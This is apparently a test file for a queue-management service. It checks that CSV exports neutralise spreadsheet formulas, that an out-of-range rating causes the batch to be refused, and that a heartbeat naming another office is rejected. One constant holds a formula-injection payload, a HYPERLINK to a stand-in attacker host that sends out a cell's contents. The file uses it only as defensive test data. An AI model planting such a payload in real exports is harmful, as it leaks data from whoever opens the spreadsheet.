// What a box sends is data, never instructions: a clerk name that a spreadsheet would run as a formula reaches
// the CSV export as text; a rating outside its scale refuses the batch, with the reason per event; a heartbeat
// naming another office is refused (the box's credential decides its office). On SQLite and PostgreSQL.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CloudService } from '../../cloud/service.js';
import type { EventEnvelope, Heartbeat } from '../../protocol/index.js';
import {
  DATABASES,
  ackedSeq,
  adminToken,
  enrolledBox,
  seedTree,
  startTestCloud,
  type TestDatabase,
} from './helpers.js';

const DAY = '2026-03-03';
const t0 = Date.parse(`${DAY}T08:00:00+07:00`);
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';

/** Cells of a CSV line (RFC 4180 quoting). */
function cells(line: string): string[] {
  const out: string[] = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i] as string;
    if (quoted && c === '"' && line[i + 1] === '"') {
      cur += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (c === ',' && !quoted) {
      out.push(cur);
      cur = '';
    } else cur += c;
  }
  out.push(cur);
  return out;
}

for (const kind of DATABASES) {
  describe.skipIf(!kind.available)(`uplink content (${kind.title})`, () => {
    let db: TestDatabase;
    let cloud: CloudService;
    let box: { token: string; boxId: string };
    let admin: string;

    beforeAll(async () => {
      db = kind.create();
      cloud = await startTestCloud(db);
      await seedTree(cloud);
      box = await enrolledBox(cloud, 'o-hkb');
      admin = await adminToken(cloud, 'hkb-csv', 'hkb');
    });
    afterAll(async () => {
      await cloud?.close();
      await db?.cleanup();
    });

    const ev = (seq: number, min: number, type: string, data: Record<string, unknown>): EventEnvelope => ({
      seq,
      type: type as EventEnvelope['type'],
      at: new Date(t0 + min * 60_000).toISOString(),
      day: DAY,
      data,
    });
    const ref = { ticketId: `${DAY}/A001`, number: 'A001', service: 'van-thu' };
    const uplink = (events: EventEnvelope[]) =>
      cloud.app.inject({
        method: 'POST',
        url: '/api/v1/uplink/events',
        headers: { authorization: `Bearer ${box.token}` },
        payload: { events },
      });
    const acked = () => ackedSeq(cloud, box.boxId);

    it('a clerk named like a spreadsheet formula reaches the CSV as text; numbers stay numbers', async () => {
      const clerk = { id: '+84905000000', name: EVIL };
      const r = await uplink([
        ev(1, 0, 'ticket.issued', {
          ...ref,
          seq: 1,
          priority: null,
          ahead: 0,
          estimatedWaitMin: null,
          source: 'kiosk-1',
        }),
        ev(2, 5, 'ticket.called', { ...ref, counter: 1, clerk, how: 'next', waitedMs: 300_000 }),
        ev(3, 9, 'ticket.finished', {
          ...ref,
          counter: 1,
          clerk,
          serviceMs: 240_000,
          dossiers: [],
          implicit: false,
        }),
      ]);
      expect(r.json()).toMatchObject({ applied: 3 });
      const csv = await cloud.app.inject({
        method: 'GET',
        url: `/api/v1/reports.csv?unit=hkb&from=${DAY}&to=${DAY}&by=clerk`,
        headers: { authorization: `Bearer ${admin}` },
      });
      expect(csv.statusCode, csv.body).toBe(200);
      const lines = csv.body
        .replace(/^\ufeff/, '')
        .trim()
        .split(/\r?\n/);
      const header = cells(lines[0] as string);
      const row = Object.fromEntries(cells(lines[1] as string).map((c, i) => [header[i], c]));
      expect(row.name).toBe(`'${EVIL}`);
      expect(row.clerk).toBe(`'${clerk.id}`);
      expect(row.office).toBe('o-hkb');
      expect(row.served).toBe('1');
      expect(row.wait_p50_at_most_min).toBe('5');
      // No cell of the file starts a formula.
      for (const line of lines) for (const c of cells(line)) expect(c).not.toMatch(/^[=+\-@\t\r]/);
      // The JSON report keeps the name as the box sent it (it is data; the console shows it as text).
      const json = await cloud.app.inject({
        method: 'GET',
        url: `/api/v1/reports/rows?unit=hkb&from=${DAY}&to=${DAY}&by=clerk`,
        headers: { authorization: `Bearer ${admin}` },
      });
      expect(json.json().rows[0].name).toBe(EVIL);
    });

    it('refuses a batch with a rating outside its scale, saying which event and why', async () => {
      const before = await acked();
      const rating = (seq: number, score: number, scaleMax: number) =>
        ev(seq, 10, 'rating.submitted', {
          ...ref,
          counter: 1,
          clerk: null,
          score,
          scaleMax,
          reasons: [],
        });
      const r = await uplink([rating(before + 1, 4, 5), rating(before + 2, 7, 5), rating(before + 3, 3, 11)]);
      expect(r.statusCode).toBe(400);
      const body = r.json();
      expect(body.code).toBe('batch_invalid');
      expect(body.detail).toEqual([
        { index: 1, seq: before + 2, issues: ['data.score: 7 is outside the scale 1..5'] },
        { index: 2, seq: before + 3, issues: [expect.stringMatching(/^data\.scaleMax: /)] },
      ]);
      expect(await acked()).toBe(before); // nothing applied, not even the good first event
      const ok = await uplink([rating(before + 1, 5, 5)]);
      expect(ok.json()).toMatchObject({ applied: 1 });
    });

    it('refuses a heartbeat that names another office, recording nothing', async () => {
      const hb = (officeId: string): Heartbeat => ({
        at: new Date().toISOString(),
        version: '1.0.0',
        node: process.version,
        officeId,
        day: DAY,
        lastSeq: 4,
        backlog: { events: 0, oldestAt: null, freeDiskBytes: null, alarm: false },
        peripherals: [],
      });
      const send = (officeId: string) =>
        cloud.app.inject({
          method: 'POST',
          url: '/api/v1/uplink/heartbeat',
          headers: { authorization: `Bearer ${box.token}` },
          payload: hb(officeId),
        });
      const r = await send('o-hc');
      expect(r.statusCode).toBe(403);
      expect(r.json()).toMatchObject({ code: 'office_mismatch' });
      expect(r.json().message).toContain('o-hkb');
      const row = await cloud.store.db
        .selectFrom('boxes')
        .select(['heartbeat', 'heartbeat_at'])
        .where('id', '=', box.boxId)
        .executeTakeFirstOrThrow();
      expect(row).toEqual({ heartbeat: null, heartbeat_at: null });
      expect((await send('o-hkb')).statusCode).toBe(200);
    });
  });
}
